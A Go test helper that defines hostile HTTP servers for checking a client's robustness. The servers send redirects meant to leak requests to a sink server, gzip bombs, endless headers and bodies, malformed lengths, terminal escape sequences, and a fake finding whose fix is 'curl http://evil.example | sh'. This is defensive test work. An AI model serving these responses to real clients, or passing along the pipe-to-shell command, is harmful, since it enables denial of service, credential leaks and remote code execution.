package hostile

import (
	"compress/gzip"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// An Answer is what a hostile HTTP server gives to any request.
type Answer struct {
	Name  string
	Leads bool // it is a redirect to the sink
	serve func(w http.ResponseWriter, r *http.Request, sink string)
}

// A Sink is a server other than the one that was asked. Nothing must reach it.
type Sink struct {
	URL   string
	asked atomic.Int64
	heard atomic.Pointer[string]
}

// Asked is how often it was asked, and what it was sent last.
func (s *Sink) Asked() (n int64, last string) {
	if text := s.heard.Load(); text != nil {
		last = *text
	}
	return s.asked.Load(), last
}

// NewSink starts one.
func NewSink(t testing.TB) *Sink {
	s := &Sink{}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1000))
		text := fmt.Sprint(r.Method, " ", r.URL, " ", r.Header, " ", string(body))
		s.heard.Store(&text)
		s.asked.Add(1)
		io.WriteString(w, `{"kind":"Status","version":2,"processes":[]}`)
	}))
	t.Cleanup(func() {
		server.CloseClientConnections()
		server.Close()
	})
	s.URL = server.URL
	return s
}

// Serve starts a server that gives an answer; secure with TLS.
func (a *Answer) Serve(t testing.TB, sink *Sink, secure bool) *httptest.Server {
	s := httptest.NewUnstartedServer(a.Handler(sink))
	if secure {
		s.StartTLS()
	} else {
		s.Start()
	}
	t.Cleanup(func() {
		s.CloseClientConnections()
		s.Close()
	})
	return s
}

// Handler gives the answer.
func (a *Answer) Handler(sink *Sink) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { a.serve(w, r, sink.URL) })
}

func redirect(status int, to func(sink string) string) func(http.ResponseWriter, *http.Request, string) {
	return func(w http.ResponseWriter, _ *http.Request, sink string) {
		w.Header().Set("Location", to(sink))
		w.WriteHeader(status)
	}
}

// hostPort is a URL's host and port.
func hostPort(address string) string { return strings.TrimPrefix(address, "http://") }

// filled writes until there is no reader left.
func filled(w io.Writer, text string) {
	for {
		if _, err := io.WriteString(w, text); err != nil {
			return
		}
	}
}

// raw answers by hand.
func raw(w http.ResponseWriter, write func(to io.Writer)) {
	c, b, err := http.NewResponseController(w).Hijack()
	if err != nil { // HTTP/2
		w.WriteHeader(http.StatusInternalServerError)
		return
	}
	defer c.Close()
	write(b)
	b.Flush()
}

// blanks of a megabyte pack well.
var blanks = strings.Repeat(" ", 1<<20)

func packed(w http.ResponseWriter, megabytes int, begin, piece string) {
	w.Header().Set("Content-Encoding", "gzip")
	z := gzip.NewWriter(w)
	io.WriteString(z, begin)
	for range megabytes {
		if _, err := io.WriteString(z, piece); err != nil {
			return
		}
	}
	z.Close()
}

const document = `{"version":2,"kind":"List","status":"success","metadata":{},"items":[],"processes":[],"data":{"resultType":"vector","result":[]}}`

// Answers are what hostile servers give.
func Answers() []Answer {
	same := func(sink string) string { return sink + "/stolen" }
	return []Answer{
		{"301", true, redirect(301, same)},
		{"302", true, redirect(302, same)},
		{"303", true, redirect(303, same)},
		{"307, which keeps the body", true, redirect(307, same)},
		{"308, which keeps the body", true, redirect(308, same)},
		{"without a scheme", true, redirect(302, func(sink string) string { return "//" + hostPort(sink) + "/stolen" })},
		{"the name of a user that looks like a host", true, redirect(302, func(sink string) string { return "http://127.0.0.1:6443@" + hostPort(sink) + "/stolen" })},
		{"the port of another server", true, redirect(302, func(sink string) string {
			return "http://localhost:" + sink[strings.LastIndexByte(sink, ':')+1:] + "/stolen"
		})},
		{"another scheme", false, redirect(302, func(string) string { return "ftp://127.0.0.1/stolen" })},
		{"a place that is none", false, redirect(302, func(string) string { return "http://[::1/%zz\x1b[2J" })},
		{"a place of 60 KB", false, redirect(302, func(sink string) string { return sink + "/" + strings.Repeat("x", 60_000) })},
		{"in a circle", false, func(w http.ResponseWriter, r *http.Request, _ string) {
			w.Header().Set("Location", r.URL.Path+"?"+r.URL.RawQuery+"x")
			w.WriteHeader(http.StatusTemporaryRedirect)
		}},
		{"to itself and then elsewhere", true, func(w http.ResponseWriter, r *http.Request, sink string) {
			if r.URL.Query().Get("again") == "" {
				w.Header().Set("Location", r.URL.Path+"?seconds=1&again=1")
			} else {
				w.Header().Set("Location", sink+"/stolen")
			}
			w.WriteHeader(http.StatusFound)
		}},
		{"a gigabyte of blanks, packed", false, func(w http.ResponseWriter, _ *http.Request, _ string) { packed(w, 1024, "", blanks) }},
		{"a gigabyte of one text, packed", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			packed(w, 1024, `{"kind":"`, strings.Repeat("x", 1<<20))
		}},
		{"a gigabyte of small objects, packed", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			packed(w, 1024, `{"items":[`, strings.Repeat(`{"a":1},`, 1<<17))
		}},
		{"a body without end", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			filled(w, document[:len(document)-1]+strings.Repeat(" ", 60_000))
		}},
		{"an error without end", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			w.WriteHeader(http.StatusInternalServerError)
			filled(w, "\x1b[31m"+strings.Repeat("x", 60_000))
		}},
		{"headers without end", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			raw(w, func(to io.Writer) {
				io.WriteString(to, "HTTP/1.1 200 OK\r\n")
				filled(to, "X-More: "+strings.Repeat("x", 4000)+"\r\n")
			})
		}},
		{"a status without end", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			raw(w, func(to io.Writer) {
				io.WriteString(to, "HTTP/1.1 500 ")
				filled(to, strings.Repeat("x", 4000))
			})
		}},
		{"answers that are to come", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			raw(w, func(to io.Writer) { filled(to, "HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n") })
		}},
		{"less than it says", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			raw(w, func(to io.Writer) {
				io.WriteString(to, "HTTP/1.1 200 OK\r\nContent-Length: 1000000000000\r\n\r\n"+document)
			})
		}},
		{"two lengths", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			raw(w, func(to io.Writer) {
				io.WriteString(to, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\nContent-Length: 30\r\n\r\n"+document)
			})
		}},
		{"a piece of no end", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			raw(w, func(to io.Writer) {
				io.WriteString(to, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n7fffffffffffffff\r\n")
				filled(to, strings.Repeat("x", 60_000))
			})
		}},
		{"a drop at a time", false, func(w http.ResponseWriter, r *http.Request, _ string) {
			for i := 0; ; i++ {
				io.WriteString(w, document[i%10:i%10+1])
				http.NewResponseController(w).Flush()
				select {
				case <-r.Context().Done():
					return
				case <-time.After(20 * time.Millisecond):
				}
			}
		}},
		{"nothing at all", false, func(_ http.ResponseWriter, r *http.Request, _ string) {
			io.Copy(io.Discard, r.Body)
			<-r.Context().Done()
		}},
		{"escapes in the status", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			raw(w, func(to io.Writer) {
				io.WriteString(to, "HTTP/1.1 500 \x1b[2Jevil\r\nContent-Length: 10\r\n\r\n\x1b[31mevil\n")
			})
		}},
		{"escapes in a message", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusForbidden)
			io.WriteString(w, `{"kind":"Status","apiVersion":"v1","status":"error","errorType":"\u001b[2J","error":"\u001b]0;pwn\u0007","reason":"Forbidden","message":"\u001b]0;pwn\u0007\u202e","code":403}`)
		}},
		{"pages without end, always the same", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, `{"kind":"List","metadata":{"continue":"more"},"items":[{"metadata":{"name":"a","namespace":"shop","uid":"u"}}]}`)
		}},
		{"an agent that lies", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, `{"version":2,"verb":"agent","node":"\u001b[2J","looked_at":-1,"processes":[{"pid":-1,"cpus_used":1e308,"gomaxprocs":{"value":9999999999},`+
				`"container":{"namespace":"../..","pod":"<img src=x>","uid":"u","name":"app","id":"77"},"findings":[{"rule":"x","severity":"critical","fix":"curl http://evil.example | sh"}]}]}`)
		}},
		{"no JSON", false, func(w http.ResponseWriter, _ *http.Request, _ string) { io.WriteString(w, "<html>\x1b[2J") }},
		{"brackets a million deep", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			io.WriteString(w, strings.Repeat(`{"items":[`, 1<<20))
		}},
		{"a broken packing", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			w.Header().Set("Content-Encoding", "gzip")
			io.WriteString(w, "\x1f\x8b\x08\x00nonsense")
		}},
		{"hangs up", false, func(http.ResponseWriter, *http.Request, string) { panic(http.ErrAbortHandler) }},
		{"comes again never", false, func(w http.ResponseWriter, _ *http.Request, _ string) {
			w.Header().Set("Retry-After", "100000")
			w.WriteHeader(http.StatusTooManyRequests)
		}},
	}
}
